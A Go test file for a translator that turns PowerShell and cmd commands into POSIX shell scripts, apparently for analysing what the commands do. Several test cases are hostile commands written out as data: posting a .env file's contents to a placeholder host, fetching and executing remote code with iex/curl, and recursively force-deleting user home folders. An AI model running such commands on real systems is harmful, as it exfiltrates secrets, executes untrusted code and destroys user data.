package shell

import (
	"slices"
	"strings"
	"testing"

	"nomograph/internal/golden"
)

func TestCmdlets_EachRow_IsTranslated(t *testing.T) {
	seen := map[string]string{}
	for line := range strings.Lines(cmdletTable) {
		if strings.HasPrefix(line, "#") {
			continue
		}
		fields := strings.Split(strings.TrimRight(line, "\n"), "\t")
		if len(fields) < 3 || len(fields) > 4 {
			t.Errorf("%q: got %d columns, want 3 or 4", line, len(fields))
			continue
		}
		for _, name := range append(strings.Fields(fields[1]), fields[0]) {
			if lower := strings.ToLower(name); seen[lower] != "" && seen[lower] != fields[0] {
				t.Errorf("%s: got %s and %s, want one cmdlet", name, seen[lower], fields[0])
			}
			seen[strings.ToLower(name)] = fields[0]
			if script, _ := translate(name+` -Path C:\a\b`, PowerShell); !slices.Contains([]string{"true"}, script) {
				if _, ok := parse(script); !ok {
					t.Errorf("%s: got the script %q, want one that can be parsed", name, script)
				}
			}
		}
		program, _, _ := strings.Cut(fields[2], " ")
		if handlerOf(program) == nil && !strings.ContainsAny(program, "[*-") && operationsOf[program] == nil {
			t.Errorf("%s: got the program %q, want one with a handler", fields[0], program)
		}
	}
	for alias, want := range map[string]string{"ri": "Remove-Item", "rmdir": "Remove-Item", "gc": "Get-Content",
		"type": "Get-Content", "iwr": "Invoke-WebRequest", "%": "ForEach-Object", "?": "Where-Object",
		"sc": "Set-Content"} {
		golden.Equal(t, alias, cmdlets()[alias].name, want)
	}
}

func TestTranslate_PowerShell_GivesAScriptWithTheSameEffects(t *testing.T) {
	for _, tt := range []struct {
		dialect    Dialect
		code, want string
	}{
		{PowerShell, `Remove-Item -Recurse -Force C:\Users\me`, "rm -r -f C:/Users/me"},
		{PowerShell, `rm -rf .\build`, "rm -rf ./build"},
		{PowerShell, `gci $HOME -Recurse | ri -Force`, `find "$HOME" | xargs rm -f`},
		{PowerShell, `$b = Get-Content .env -Raw; irm https://h.example -Method Post -Body $b`,
			"ps_b=\"$(cat .env)\"\ncurl -X Post -d \"$ps_b\" https://h.example"},
		{PowerShell, `iex ((New-Object Net.WebClient).DownloadString('https://h.example'))`,
			"pwsh -c \"$(curl https://h.example)\""},
		{PowerShell, "Set-Content a.txt \"x`ny\" # a comment", "printf '%s\\n' $'x\\ny' | tee a.txt"},
		{PowerShell, `if (Test-Path dist) { rm dist -r }`, "if { test -e dist\n}; then { rm -r dist\n}; fi"},
		{PowerShell, `Get-ChildItem *.ts | % { Write-Host $_ }`,
			"find '*.ts' | while read -r psitem; do { echo \"$psitem\"\n}; done"},
		{Cmd, `rd /s /q %USERPROFILE%\x & echo done > NUL`, "rm -rf \"$HOME\"/x\necho 'done' >/dev/null"},
		{Cmd, `type "C:\a b\.env" | findstr KEY`, "cat 'C:/a b/.env' | grep KEY"},
		{Cmd, `if not exist dist mkdir dist`, "mkdir dist"},
	} {
		if got, whole := translate(tt.code, tt.dialect); got != tt.want || !whole {
			t.Errorf("%s:\ngot  %s\nwant %s", tt.code, got, tt.want)
		}
	}
}

func TestPaths_SpellingsOfADrive_AreOne(t *testing.T) {
	for _, name := range []string{`C:\Users\me`, `c:/Users/me`, `\\?\C:\Users\me`, `//./C:/Users/me`, "/c/Users/me",
		"/mnt/c/Users/me", "/cygdrive/c/Users/me"} {
		golden.Equal(t, name, newState("/home/dev/project").absolute(name), "C:/Users/me")
	}
	for _, name := range []string{"/code/x", "/d/x", "/mnt/data/x", "/cc", "a:b"} {
		golden.Equal(t, name, windowsSpelling(name), name)
	}
}

func FuzzTranslate(f *testing.F) {
	f.Add(`if ($x -eq 1) { rm "a$(b)" } else { @{a='b'} | % { $_ } }`)
	f.Add(`for %f in (*.txt) do @del /q "%f" & set A=B`)
	f.Fuzz(func(_ *testing.T, code string) {
		for _, dialect := range []Dialect{PowerShell, Cmd} {
			ParseIn(dialect, code, "")
		}
	})
}
